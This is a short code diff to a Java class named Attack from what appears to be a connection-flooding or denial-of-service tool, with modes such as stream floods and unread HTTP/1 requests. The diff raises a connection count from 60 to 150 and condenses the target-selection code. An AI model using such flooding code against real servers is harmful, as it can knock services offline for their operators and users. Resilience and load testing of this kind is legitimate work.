@@ -26,7 +26,7 @@ public final class Attack implements Runnable {
   private static final int RECEIVE_BYTES = 4_096;
   private static final int FLOOD_CONNECTIONS = 1_200;
   private static final int FLOOD_STEP = 20;
-  private static final int BODIES_CONNECTIONS = 60;
+  private static final int BODIES_CONNECTIONS = 150;
   private static final int UPLOADS = 3;
   private static final int FRAME_BYTES = 15_000;
   private static final int FRAMES_OF_BODY = 4;
@@ -155,10 +155,7 @@ public final class Attack implements Runnable {
 
   private Socket connect() throws IOException {
     final List<Target> all = targets.get();
-    final Target target =
-        plan.kind() == AttackPlan.Kind.STREAM_FLOOD
-            ? all.get(plan.connections() % all.size())
-            : draw.of(all);
+    final Target target = holds() ? all.get(plan.connections() % all.size()) : draw.of(all);
     final Socket socket = new Socket();
     try {
       if (plan.kind() == AttackPlan.Kind.UNREAD_HTTP1
